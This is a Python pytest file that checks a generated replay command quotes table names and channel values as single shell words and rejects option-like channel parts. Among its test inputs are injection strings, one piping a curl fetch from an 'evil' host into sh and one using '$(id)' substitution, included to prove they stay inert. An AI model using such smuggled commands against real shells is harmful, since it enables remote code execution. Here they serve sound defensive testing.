"""What is to be pasted into a shell holds no command of a table's name, a channel or a property."""

from __future__ import annotations

import shlex

import pytest

from sterna.pipelines.publish.model import Channel
from sterna.text.restore import rewound_remedy


@pytest.mark.parametrize("name", ["sales.o; curl evil|sh #", "my orders.t", "a.$(id)", "sales.it's"])
def test_a_name_and_a_position_are_one_word_each(name: str) -> None:
    command = shlex.split(rewound_remedy(name, Channel("eu", "acme", "clicks"), f"3{name}").partition(" publishes ")[0])
    options = ["--region", "eu", "--table", name, "--channel", "eu.acme.clicks", "--to", f"3{name}", "--yes"]
    assert command == ["sterna", "ingest", "replay", *options]


@pytest.mark.parametrize("channel", [("eu", "cdc", "--all"), ("flow", "all", "-h"), ("eu", "acme", "--accept")])
def test_a_channel_is_taken_for_no_option(channel: tuple[str, str, str]) -> None:
    assert rewound_remedy("ns.t", Channel(*channel), "3") == "see Rewound in the run book"
